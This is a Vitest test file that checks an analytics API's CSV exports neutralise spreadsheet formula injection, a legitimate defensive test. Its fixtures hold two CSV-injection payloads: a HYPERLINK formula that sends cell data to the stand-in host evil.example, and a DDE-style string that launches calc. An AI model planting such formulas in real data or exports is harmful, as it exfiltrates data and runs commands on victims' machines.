import { beforeAll, describe, expect, it } from 'vitest';
import { useTenants, useTestEnv } from '../setup/use-test-env.ts';
import { ROLLUP_TEST_ENV, rolledUp } from '../setup/rollups.ts';
import { device, session } from '../setup/events.ts';
import { push } from '../setup/push.ts';

// A name a user typed travels into the CSV exports a spreadsheet opens: a cell starting with =, +,
// -, @, a tab or a carriage return would run as a formula (OWASP "CSV injection") unless neutralised.

const DAY = '2026-11-16';
const NAMES = { '0770935Y': '=HYPERLINK("https://evil.example/?"&A1,"Voir")', '0770936Z': "@SUM(1+1)*cmd|' /C calc'!A0" };
const env = useTestEnv({ env: ROLLUP_TEST_ENV, worker: true });
const [tenant] = useTenants(env, 'csv');

beforeAll(async () => {
  for (const [uai, name] of Object.entries(NAMES)) {
    const res = await env.app.inject({
      method: 'POST',
      url: '/v1/establishments',
      headers: { authorization: `Bearer ${tenant.operator}` },
      payload: { uai, name, type: 'college', calendar_zone: 'C' },
    });
    expect(res.statusCode, res.body).toBe(201);
  }
  await push(
    env,
    tenant.connector,
    Object.keys(NAMES).flatMap((uai) => [device(`d-${uai}`, { kind: 'tablet' }, uai), session(`d-${uai}`, DAY, '10:00', 900)]),
  );
  await rolledUp(env, tenant.tenantId);
});

describe('CSV exports', () => {
  it('write a cell a spreadsheet would run as a formula as text, prefixed with a quote', async () => {
    const res = await env.app.inject({
      url: `/v1/bi/establishment_daily_v1.csv?from=${DAY}&to=${DAY}`,
      headers: { authorization: `Bearer ${tenant.operator}` },
    });
    expect(res.statusCode).toBe(200);
    const names = res.body
      .trim()
      .split('\r\n')
      .slice(1)
      .map((line) => line.split(',')[2]);
    expect(names.length).toBeGreaterThan(0);
    // RFC 4180: the formula has quotes and commas, so its cell is quoted, the neutralising ' inside.
    expect(new Set(names)).toEqual(new Set(['"\'=HYPERLINK(""https://evil.example/?""&A1', "'@SUM(1+1)*cmd|' /C calc'!A0"]));
    expect(res.body).not.toMatch(/(^|,)"?[=+@\t\r]/m);
  });
});
